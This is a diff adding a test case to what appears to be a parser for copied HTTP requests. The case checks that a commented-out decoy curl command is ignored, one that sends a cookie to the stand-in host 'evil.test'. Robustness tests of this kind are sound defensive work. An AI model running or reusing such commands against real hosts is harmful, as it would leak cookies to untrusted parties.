@@ -435,6 +435,11 @@ describe('a copied request that is read as its tool sends it', () => {
       'a.test a=1',
     ],
     [
+      'after one whose address is like a command',
+      "# Unsupported URL scheme: it's curl -b z=1 http://evil.test/\ncurl 'https://a.test/' -b 'a=1'",
+      'a.test a=1',
+    ],
+    [
       'after one in JavaScript',
       '// Unsupported URL scheme ;\nfetch("https://a.test/", {"headers": {"cookie": "a=1"}});',
       'a.test a=1',
